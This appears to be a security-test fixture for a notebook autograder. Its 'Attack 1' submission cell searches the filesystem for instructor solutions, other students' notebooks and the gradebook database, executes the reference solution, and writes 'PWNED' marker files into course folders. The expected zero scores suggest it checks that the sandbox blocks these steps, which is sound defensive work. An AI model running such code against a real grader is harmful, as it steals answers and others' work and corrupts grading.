"""Attack 1: read the instructor's answers (master/source notebooks, the course's modules/*_dev.py),
other students' submissions and the SUBMISSIONS folder from a graded cell, and write into the course."""
CELLS = {"fixture-tensor-add-impl": r'''
import glob, os
found = []
for pattern in ["{COURSE}/modules/*/*_dev.py", "{REPO}/modules/*/*_dev.py", "{SUBS}/*/*/*.ipynb",
                "/tmp/tito-grade-*/master/source/*/*.ipynb", "/tmp/**/source/*/*_dev.ipynb"]:
    found += glob.glob(pattern, recursive=True)
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "site-packages", "lib", "include")]
    found += [os.path.join(root, f) for f in files if f.endswith(("_dev.py", "gradebook.db"))]
print("found", found)
for path in found:
    if path.endswith("tensor_dev.py"):
        exec(open(path).read(), globals())        # the reference add() and Tensor
for target in ["{COURSE}/PWNED", "{SUBS}/PWNED", "{REPO}/PWNED"]:
    try:
        open(target, "w").write("pwned")
    except OSError as exc:
        print("cannot write", target, exc)
'''}
EXPECTED = {"fixture-tensor-add-test": 0.0, "fixture-tensor-total-test": 0.0}
